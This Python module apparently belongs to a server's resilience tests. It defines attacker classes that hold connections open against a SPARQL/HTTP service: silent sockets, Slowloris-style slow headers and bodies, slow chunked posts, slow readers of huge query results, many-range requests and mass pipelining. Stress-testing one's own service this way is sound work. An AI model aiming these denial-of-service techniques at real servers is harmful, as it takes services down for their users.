"""Who holds a connection, and what a server keeps for it, for as long as that lasts."""

from __future__ import annotations

from contextlib import suppress

from .attacker import SMALL_BUFFER, TRICKLE, Attacker, read_status, write_get, write_post, write_query

#: All triples as Turtle, and an answer of 31 MB as JSON.
LARGE = "CONSTRUCT { ?s ?p ?o } { ?s ?p ?o }"
LARGEST = "SELECT * { ?s ?p ?o . ?s ?q ?r } LIMIT 75000"
#: How often a byte is sent by who sends slowly, at most.
LONG = 1000


class Silent(Attacker):
    """Connects and says nothing."""

    def try_once(self, number: int) -> str:
        """Wait until the server ends it."""
        with self.connect() as line:
            return "ended" if not line.recv(1) else "answered"


class SlowHead(Attacker):
    """Sends a head a letter at a time."""

    head = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * LONG

    def try_once(self, number: int) -> str:
        """Send until the server ends it."""
        with self.connect() as line:
            for letter in self.head:
                line.sendall(bytes([letter]))
                self.pause(TRICKLE)
                if self.over:
                    break
        return "sent"


class SlowBody(Attacker):
    """Posts a query at 20 bytes a second."""

    head = write_post("Content-Length: 10000\r\n")
    piece = b" " * int(20 * TRICKLE)

    def try_once(self, number: int) -> str:
        """Send until the server ends it, or answers."""
        with self.connect() as line:
            line.sendall(self.head)
            line.settimeout(TRICKLE)
            for _ in range(LONG):
                if self.over:
                    break
                line.sendall(self.piece)
                with suppress(TimeoutError):
                    return read_status(line)
        return "sent"


class SlowByte(SlowBody):
    """Posts a query a byte at a time."""

    piece = b" "


class SlowChunk(SlowBody):
    """Posts a query in chunks of a byte, and does not say how long it is."""

    head = write_post("Transfer-Encoding: chunked\r\n")
    piece = b"1\r\n \r\n"


class SlowReader(Attacker):
    """Asks for all triples, and reads them a thousand bytes at a time."""

    def try_once(self, number: int) -> str:
        """Read until the server ends it."""
        return self.sip(write_query(LARGE))


class LargestReader(Attacker):
    """Asks for 31 MB, all the very same, and reads them a thousand bytes at a time."""

    def try_once(self, number: int) -> str:
        """Read until the server ends it."""
        return self.sip(write_query(LARGEST, "&format=json"))


class OtherReader(Attacker):
    """Asks for 31 MB, none like another's, and reads them a thousand bytes at a time."""

    def try_once(self, number: int) -> str:
        """Read until the server ends it."""
        return self.sip(write_query(f"{LARGEST} #{number}", "&format=json"))


class RangeReader(Attacker):
    """Asks for many ranges of a file and of an answer, and reads what comes slowly."""

    ranges = ",".join(f"{start}-" for start in range(500))

    def try_once(self, number: int) -> str:
        """Read until the server ends it."""
        target = ("/static/style/base.css", "/api/v1/openapi.json", "/graphs?default")[number % 3]
        return self.sip(write_get(target, f"Range: bytes={self.ranges}\r\nConnection: close\r\n"))


class Pipeliner(Attacker):
    """Sends a thousand requests at once, and reads no answer."""

    def try_once(self, number: int) -> str:
        """Send them."""
        with self.connect(SMALL_BUFFER) as line:
            line.sendall(write_get("/measures") * 1000)
            while not self.over and line.recv(1000):
                self.pause(TRICKLE)
        return "ended"
